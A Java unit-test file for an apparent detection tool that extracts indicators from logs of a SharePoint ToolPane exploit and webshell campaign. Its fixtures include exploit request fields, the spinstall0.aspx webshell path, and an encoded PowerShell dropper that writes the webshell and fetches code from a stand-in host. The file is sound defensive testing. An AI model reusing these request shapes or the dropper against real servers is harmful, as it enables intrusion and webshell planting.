package dev.tradecraft.campaigns.observe;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import org.junit.jupiter.api.Test;

import dev.tradecraft.core.Event;
import dev.tradecraft.core.EventFields;
import dev.tradecraft.core.Hit;
import dev.tradecraft.core.Level;
import dev.tradecraft.core.Logsource;
import dev.tradecraft.core.ObservableType;
import dev.tradecraft.core.Origin;
import dev.tradecraft.core.RuleRef;
import dev.tradecraft.core.Sighting;
import dev.tradecraft.core.SourcePosition;
import dev.tradecraft.core.Stage;

class TestSightingExtractor
{
    private static final Logsource WEB = new Logsource("windows", "webserver", "iis");
    private static final Logsource HOST = new Logsource("windows", "", "sysmon");

    @Test
    void testExploitRequestCarriesRealClientAgentShapeAndSize()
    {
        Sighting sighting = extract("exploit", WEB, Map.of("cs-method", "POST", "cs-uri-stem", "/_layouts/15/ToolPane.aspx/",
                "cs-uri-query", "DisplayMode=Edit&a=%2FToolPane.aspx", "cs-referer", "/_layouts/SignOut.aspx", "sc-status", "200",
                "c-ip", "10.0.0.5", "X-Forwarded-For", "198.51.100.7:51515, 10.0.0.5", "cs-user-agent", "curl/8.5.0", "cs-bytes", "7514"));
        assertEquals(Stage.EXPLOIT, sighting.stage());
        assertTrue(sighting.succeeded());
        assertEquals(List.of("198.51.100.7"), sighting.values(ObservableType.SOURCE_IP));
        assertEquals(List.of("curl/8.5.0"), sighting.values(ObservableType.USER_AGENT));
        assertEquals(List.of("POST layouts=15 slash=yes referer=relative-signout query=a=/toolpane.aspx&displaymode=edit"),
                sighting.values(ObservableType.REQUEST_VARIANT));
        assertEquals(List.of("7424-7679"), sighting.values(ObservableType.REQUEST_SIZE));
    }

    @Test
    void testBalancerAddressIsNoSourceIp()
    {
        Sighting sighting = extract("exploit", WEB, Map.of("cs-method", "POST", "cs-uri-stem", "/_layouts/15/ToolPane.aspx", "sc-status", "401", "c-ip", "10.0.0.5"));
        assertEquals(List.of(), sighting.values(ObservableType.SOURCE_IP));
        assertFalse(sighting.succeeded());
        assertTrue(sighting.isReconnaissance());
    }

    @Test
    void testWebshellNotServedIsNotSuccess()
    {
        Sighting served = extract("webshell", WEB, Map.of("cs-uri-stem", "/_layouts/15/SpInstall0.aspx", "sc-status", "200", "c-ip", "192.0.2.1"));
        assertTrue(served.succeeded());
        assertEquals(List.of("spinstall0.aspx"), served.values(ObservableType.WEBSHELL_NAME));
        assertEquals(List.of("/_layouts/15/SpInstall0.aspx"), served.values(ObservableType.WEBSHELL_PATH));
        Sighting missing = extract("webshell", WEB, Map.of("cs-uri-stem", "/_layouts/15/spinstall0.aspx", "sc-status", "404", "c-ip", "192.0.2.1"));
        assertFalse(missing.succeeded());
    }

    @Test
    void testDropperOnTheHostIsFingerprintedWhateverItsWrapping()
    {
        String script = "$base64String = 'x'; [IO.File]::WriteAllBytes('C:\\LAYOUTS\\spinstall0.aspx', 1); iwr https://Update.Example.test/a";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        Sighting viaCmd = extract("post-exploitation", HOST, Map.of("Image", "C:\\Windows\\System32\\cmd.exe",
                "CommandLine", "cmd.exe /c powershell -EncodedCommand " + encoded, "ParentImage", "c:\\windows\\system32\\inetsrv\\w3wp.exe",
                "Hashes", "SHA256=" + "C".repeat(64)));
        Sighting direct = extract("post-exploitation", HOST, Map.of("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "CommandLine", "powershell -ec " + encoded));
        assertEquals(viaCmd.values(ObservableType.COMMAND_FINGERPRINT), direct.values(ObservableType.COMMAND_FINGERPRINT));
        assertEquals(List.of("cmd.exe"), viaCmd.values(ObservableType.TOOL));
        assertEquals(List.of(), viaCmd.values(ObservableType.FILE_HASH), "system binaries' hashes tie nothing together");
        assertEquals(List.of("update.example.test"), viaCmd.values(ObservableType.DOMAIN));
    }

    @Test
    void testWebshellWrittenOnTheHost()
    {
        Sighting sighting = extract("webshell-drop", HOST, Map.of("Image", "C:\\tools\\xd.exe", "Hashes", "MD5=00,SHA256=" + "d".repeat(64),
                "TargetFilename", "C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS\\ghost.aspx"));
        assertEquals(List.of("ghost.aspx"), sighting.values(ObservableType.WEBSHELL_NAME));
        assertEquals(List.of("d".repeat(64)), sighting.values(ObservableType.FILE_HASH));
    }

    @Test
    void testIndicatorAndUnplacedHitsCarryNoSighting()
    {
        RuleRef ioc = new RuleRef("ioc:ip:192.0.2.1", "IOC", Level.HIGH, "x", List.of("tradecraft.ioc"), RuleRef.Kind.IOC);
        assertEquals(Optional.empty(), SightingExtractor.extract(new Hit(ioc, event(WEB, Map.of("c-ip", "192.0.2.1")), Map.of())));
        RuleRef other = new RuleRef("r", "other", Level.LOW, "x", List.of(), RuleRef.Kind.SIGMA);
        assertEquals(Optional.empty(), SightingExtractor.extract(new Hit(other, event(HOST, Map.of("Image", "x")), Map.of())));
    }

    private static Sighting extract(String stage, Logsource logsource, Map<String, String> fields)
    {
        RuleRef rule = new RuleRef("rule-" + stage, stage, Level.HIGH, "test", List.of("tradecraft.stage." + stage), RuleRef.Kind.SIGMA);
        return SightingExtractor.extract(new Hit(rule, event(logsource, fields), Map.of())).orElseThrow();
    }

    private static Event event(Logsource logsource, Map<String, String> fields)
    {
        return new Event(new Origin("acme", "sp-wfe01"), SourcePosition.line("f.log", 1), Optional.of(Instant.parse("2025-07-18T18:06:14Z")),
                logsource, EventFields.of(new java.util.TreeMap<>(fields)));
    }
}
